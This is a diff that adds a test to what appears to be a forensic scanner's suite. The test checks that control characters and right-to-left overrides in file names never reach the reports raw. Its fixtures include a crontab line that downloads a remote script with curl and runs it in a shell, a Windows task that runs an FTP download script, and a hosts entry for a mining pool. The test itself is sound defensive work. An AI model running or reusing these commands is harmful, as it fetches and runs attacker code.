@@ -6,12 +6,14 @@
 #include <zlib.h>
 
 #include <filesystem>
+#include <map>
 #include <set>
 
 #include <gtest/gtest.h>
 #include <nlohmann/json.hpp>
 #include <sys/stat.h>
 
+#include "core/escape.h"
 #include "support/evtx_writer.h"
 #include "support/pcap_writer.h"
 #include "support/prefetch_writer.h"
@@ -282,6 +284,57 @@ TEST(HostileInput, ACaseOnReadOnlyMediaIsReported) {
   EXPECT_EQ(r.exit_code, 0) << r.err;
   EXPECT_NE(r.out.find("minexmr"), std::string::npos);
   EXPECT_FALSE(fs::exists(dir / "ro/case.sqlite-shm"));
+}
+
+// Item 14: ESC, BEL, a line break, a backslash and a right-to-left override in a file name, a task name and a hosts
+// line reach no output raw: the terminal summary, Markdown, HTML, CSV, JSON, the plan, both scripts and the sh
+// script's own output. JSON keeps the exact value (escaped); the sh script's quarantine manifest has the right hash.
+TEST(HostileInput, ControlAndInvisibleCharactersNeverLeaveRaw) {
+  test::TempDir dir;
+  const std::string nasty = "\x1b[2J\x07\\\n\xE2\x80\xAE";
+  test::write_file(dir / "ev/var/spool/cron/crontabs" / ("root" + nasty),
+                   "* * * * * curl -fsSL http://203.0.113.9/p.sh|sh #" + nasty.substr(0, 6) + "\n");
+  test::write_file(dir / "ev/C/Windows/System32/Tasks" / ("Mysa" + nasty + "gpj.exe"),
+                   "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Task version=\"1.2\" "
+                   "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Actions Context=\"Author\"><Exec>"
+                   "<Command>cmd</Command><Arguments>/c echo open ftp.ftp1202.site&gt;s&amp;ftp -s:s</Arguments></Exec>"
+                   "</Actions></Task>");
+  test::write_file(dir / "ev/etc/hosts",
+                   "127.0.0.1 localhost\n1.2.3.4 pool.minexmr.com # \x1b]0;pwn\x07\xE2\x80\xAE\n"
+                   "1.2.3.4 www.360.cn\n");
+  const fs::path case_path = dir / "c.sqlite";
+  auto scan = ms({"scan", "--quiet", "--case", case_path.string(), (dir / "ev").string()});
+  ASSERT_EQ(scan.exit_code, 1) << scan.out << scan.err;
+  std::map<std::string, std::string> outputs = {{"scan", scan.out}};
+  for (const char* format : {"md", "html", "csv", "json"})
+    outputs[std::string("report ") + format] = ms({"report", case_path.string(), "--format", format}).out;
+  outputs["plan"] = ms({"respond", case_path.string()}).out;
+  outputs["sh"] = ms({"respond", case_path.string(), "--script", "sh"}).out;
+  outputs["ps1"] = ms({"respond", case_path.string(), "--script", "ps1"}).out;
+  test::write_file(dir / "r.sh", outputs["sh"]);
+  outputs["sh dry run"] = test::run({"/bin/bash", (dir / "r.sh").string()}, dir.path()).out;
+  auto raw = [](std::string_view s) -> std::string {
+    for (size_t i = 0; i < s.size(); ++i) {
+      const auto c = static_cast<unsigned char>(s[i]);
+      size_t len = 0;
+      if ((c < 0x20 && c != '\n' && c != '\t' && c != '\r') || c == 0x7F || invisible_at(s, i, len))
+        return std::string(s.substr(i > 60 ? i - 60 : 0, 80));
+    }
+    return {};
+  };
+  for (const auto& [name, text] : outputs) {
+    EXPECT_FALSE(text.empty()) << name;
+    EXPECT_EQ(raw(text), "") << name << " shows a raw control or invisible character";
+  }
+  // The value itself survives where machines read it.
+  const auto report = nlohmann::json::parse(outputs["report json"]);
+  bool exact = false;
+  for (const auto& f : report["findings"])
+    for (const auto& e : f["evidence"])
+      exact = exact || e["path"].get<std::string>().find("Mysa" + nasty) != std::string::npos;
+  EXPECT_TRUE(exact);
+  EXPECT_NE(outputs["report md"].find("\\\\x1b"), std::string::npos);
+  EXPECT_NE(outputs["report html"].find("\\u{202e}"), std::string::npos);
 }
 
 }  // namespace
